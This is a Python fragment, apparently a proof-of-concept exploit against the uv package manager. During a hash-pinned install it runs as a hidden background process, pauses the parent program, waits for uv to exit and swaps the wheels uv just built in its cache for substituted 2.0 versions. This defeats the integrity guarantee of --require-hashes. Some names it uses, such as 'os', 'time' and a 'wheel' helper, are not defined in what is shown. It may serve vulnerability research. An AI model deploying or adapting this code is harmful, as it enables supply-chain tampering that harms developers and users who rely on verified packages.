# Builds what was ordered, and puts another version in its place once nobody but our program looks: uv checks what it builds.
import glob, signal
def state(process):
    with open(f"/proc/{process}/stat") as file:
        return file.read().rpartition(")")[2].split()
def replace(name, uv, program):
    os.kill(program, signal.SIGSTOP)
    try:
        until = time.monotonic() + 20
        while state(uv)[0] != "Z" and time.monotonic() < until:
            time.sleep(0.002)
        for built in glob.glob(f"{os.environ['TMPDIR']}/uv-cache/sdists-*/**/{name}-1.0-*.whl", recursive=True):
            wheel(built.replace(f"{name}-1.0-", f"{name}-2.0-"), name, "2.0", "")
            os.unlink(built)
    finally:
        os.kill(program, signal.SIGCONT)
def attack(name):
    uv = os.getppid()
    program = int(state(uv)[1])
    with open(f"/proc/{uv}/cmdline", "rb") as file:
        is_ordered = b"--require-hashes" in file.read()
    if is_ordered and os.fork() == 0:
        os.setsid()
        nowhere = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(nowhere, descriptor)
        os.closerange(3, 256)
        try:
            replace(name, uv, program)
        finally:
            os._exit(0)
